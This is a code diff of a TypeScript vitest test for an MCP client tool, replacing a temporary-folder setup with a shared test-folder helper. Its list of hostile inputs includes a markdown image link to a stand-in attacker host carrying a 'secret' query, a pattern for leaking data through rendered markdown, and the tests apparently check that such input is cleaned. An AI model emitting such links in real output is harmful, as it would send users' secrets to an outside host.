@@ -1,13 +1,13 @@
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { writeFileSync } from 'node:fs'
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
-import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { fileURLToPath } from 'node:url'
 import { Client } from '@modelcontextprotocol/client'
 import { StdioClientTransport } from '@modelcontextprotocol/client/stdio'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { childEnvironment } from '../../test/child-environment.ts'
+import { testFolder } from '../../test/folder.ts'
 import { cleaned } from './cleaned.ts'
 
 const main = fileURLToPath(new URL('./main.ts', import.meta.url))
@@ -25,13 +25,12 @@ const hostile = [
   '```\n# Heading\n![x](https://evil.example/?q=secret)',
   'y'.repeat(100_000),
 ]
-let folder: string
+const folder = testFolder()
 let http: ReturnType<typeof createServer>
 let client: Client
 let answer: (request: IncomingMessage & { body: string }, response: ServerResponse) => void
 
 beforeAll(async () => {
-  folder = mkdtempSync(join(tmpdir(), 'winnow-mcp-'))
   writeFileSync(join(folder, 'token'), token)
   http = createServer((request, response) => {
     const chunks: Buffer[] = []
@@ -50,7 +49,6 @@ beforeAll(async () => {
 afterAll(async () => {
   await client?.close()
   http?.close()
-  rmSync(folder, { recursive: true, force: true })
 })
 
 const facts = { asOf: '2026-11-01T00:00:00.000Z', sources: 3, watched: 2, published: [], unproven: [], notListed: [] }
